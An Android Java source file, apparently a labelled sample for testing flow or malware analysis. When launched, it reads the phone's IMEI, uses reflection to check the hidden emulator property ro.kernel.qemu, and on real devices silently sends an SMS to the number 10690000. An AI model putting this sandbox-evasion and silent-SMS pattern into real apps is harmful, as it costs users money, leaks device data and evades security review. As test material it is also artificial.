// about       A hidden property of emulators is read by reflection; where it is not set the property is sent.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String imei = phone.getDeviceId();
    getPreferences(MODE_PRIVATE).edit().putString("id", imei).apply();
    String qemu = property("ro.kernel.qemu");
    if (!"1".equals(qemu)) {
      // What is sent.
      String text = qemu + ";";
      SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
  }

  private static String property(String name) {
    try {
      Class<?> properties = Class.forName("android.os.SystemProperties");
      return (String) properties.getMethod("get", String.class).invoke(null, name);
    } catch (ReflectiveOperationException e) {
      return "";
    }
  }
}
